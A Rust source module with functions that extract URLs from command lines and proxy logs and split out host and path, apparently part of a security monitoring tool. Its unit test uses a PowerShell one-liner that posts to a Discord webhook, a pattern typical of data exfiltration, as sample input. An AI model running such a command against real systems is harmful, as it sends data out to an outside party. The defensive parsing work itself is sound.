//! URLs in command lines and requests: where they are, their host and path.

/// `http(s)://` URLs in a command line or script, up to the next blank or quote.
pub fn urls_in(text: &str) -> impl Iterator<Item = String> + '_ {
    let lower = text.to_ascii_lowercase();
    let mut starts = Vec::new();
    let mut from = 0;
    while let Some(i) = lower[from..].find("http") {
        let at = from + i;
        let rest = &lower[at..];
        if rest.starts_with("https://") || rest.starts_with("http://") {
            starts.push(at);
        }
        from = at + 4;
        if starts.len() >= 64 {
            break;
        }
    }
    starts.into_iter().filter_map(move |at| {
        let rest = &text[at..];
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')' | ';' | ','))
            .unwrap_or(rest.len());
        let url = &rest[..end];
        url_host(url).filter(|h| !h.is_empty())?;
        Some(url.to_string())
    })
}

/// The host of a URL (`https://h:443/p` → `h`).
pub fn url_host(url: &str) -> Option<&str> {
    let rest = url.split_once("://").map(|(_, r)| r)?;
    let host = rest.split(['/', '?', '#']).next()?;
    let host = host.rsplit('@').next()?;
    let host = match host.rfind(':') {
        Some(i) if !host.starts_with('[') => &host[..i],
        _ => host,
    };
    (!host.is_empty()).then_some(host)
}

/// The path of a URL (`https://h/p?q` → `/p?q`).
pub fn url_path(url: &str) -> &str {
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
    rest.find('/').map(|i| &rest[i..]).unwrap_or("/")
}

/// A request's URL in full (proxies log a path or a full URL).
pub(super) fn full_url(domain: &str, uri: &str) -> String {
    if uri.contains("://") {
        uri.to_string()
    } else {
        format!("https://{domain}{uri}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_are_found_in_command_lines() {
        let t = r#"powershell -c "Invoke-RestMethod -Uri 'https://discord.com/api/webhooks/1/x' -Method Post""#;
        let u: Vec<_> = urls_in(t).collect();
        assert_eq!(u, vec!["https://discord.com/api/webhooks/1/x"]);
        assert_eq!(url_host("https://a.b:8443/x"), Some("a.b"));
        assert_eq!(url_path("https://a.b/x/y?z"), "/x/y?z");
        assert_eq!(urls_in("no url here http:/bad").count(), 0);
    }
}
